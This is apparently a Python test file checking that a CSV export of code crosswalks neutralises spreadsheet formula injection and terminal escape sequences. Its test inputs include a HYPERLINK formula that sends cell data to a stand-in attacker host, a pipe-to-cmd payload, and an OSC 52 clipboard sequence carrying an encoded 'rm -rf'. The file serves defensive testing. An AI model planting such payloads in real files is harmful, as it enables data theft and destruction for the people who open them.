"""Codes are named by systems, and their table is opened with a spreadsheet."""

from __future__ import annotations

import csv

import pytest
from hypothesis import given
from hypothesis import strategies as st

from connector.operations.setup.crosswalks import read_csv, write_csv
from connector.store.operator.crosswalks import Code
from tests.domain.test_harmless import obeyed

#: a spreadsheet computes a cell that begins so
COMPUTED = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
CELLS = st.builds(
    lambda quotes, first, rest: quotes + first + rest,
    st.sampled_from(["", "'", "''"]),
    st.sampled_from(["", *COMPUTED]),
    st.from_regex(r"[A-Za-z0-9'=,;\"|() -]{0,20}[a-z0-9]", fullmatch=True),
).filter(lambda cell: cell == cell.strip())


@pytest.mark.parametrize("code", ['=HYPERLINK("https://evil.example/?"&A1,"open")', "@SUM(1)", "+1", "-1+1|cmd", "=1"])
def test_no_code_is_computed_by_a_spreadsheet(code: str) -> None:
    rows = list(csv.reader(write_csv([Code(table=code, source=code, target=code)]).splitlines()))
    assert rows == [["table", "source", "target"], [f"'{code}"] * 3]


@pytest.mark.parametrize("ends", [";", "; ", ";;", ";'"])
def test_no_code_is_computed_by_a_spreadsheet_that_ends_cells_at_semicolons(ends: str) -> None:
    code = Code(table="units", source=f'EA{ends}=HYPERLINK("https://evil.example/","open")', target="EA")
    written = write_csv([code])
    cells = [cell.strip() for cell in written.replace("\n", ";").split(";")]
    assert not [cell for cell in cells if cell.startswith(COMPUTED)]
    assert read_csv(written, name="codes.csv") == [code]


def test_a_code_that_somebody_wrote_by_hand_moves_no_terminal() -> None:
    written = write_csv([Code(table="units", source="\x1b]52;c;cm0gLXJm\x07\x9b2J\u202e\r=1", target="\t=1")])
    assert not [sign for sign in written if obeyed(sign) and sign != "\n"]
    assert "\u241b" in written


@given(st.lists(st.tuples(CELLS, CELLS), unique_by=lambda pair: pair[0], max_size=5))
def test_what_is_exported_is_imported_as_it_was(pairs: list[tuple[str, str]]) -> None:
    codes = [Code(table="units", source=source, target=target) for source, target in pairs]
    written = write_csv(codes)
    assert read_csv(written, name="codes.csv") == codes
    assert not [cell for row in csv.reader(written.splitlines()) for cell in row if cell.startswith(COMPUTED)]
